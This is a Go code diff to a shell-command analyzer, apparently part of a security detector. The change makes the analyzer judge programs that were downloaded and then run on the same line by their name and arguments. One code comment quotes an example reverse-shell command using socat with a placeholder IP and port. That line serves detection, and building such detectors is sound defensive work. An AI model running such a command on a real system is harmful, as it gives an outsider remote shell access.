@@ -128,7 +128,16 @@ func (a *analyzer) defined(argv []string, line string) bool {
 		return true
 	}
 	if strings.Contains(name, "/") {
-		return a.runScript(name, "sh", line)
+		if !a.runScript(name, "sh", line) {
+			return false
+		}
+		if a.fetched[a.fileKey(name)] && base(name) != "" {
+			// A program downloaded on the line and run is also judged by what its name
+			// and arguments ask of it (`/tmp/socat exec:'bash -li' tcp:IP:PORT`, a static
+			// socat fetched over https: a reverse shell whatever its source; det46).
+			a.command(append([]string{base(name)}, argv[1:]...))
+		}
+		return true
 	}
 	return false
 }
